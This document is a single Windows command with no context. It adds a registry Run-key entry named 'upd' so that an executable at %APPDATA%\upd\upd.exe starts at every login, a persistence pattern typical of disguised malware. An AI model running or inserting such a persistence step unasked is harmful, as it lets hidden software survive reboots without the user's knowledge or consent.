reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v upd /t REG_SZ /d "%APPDATA%\upd\upd.exe" /f
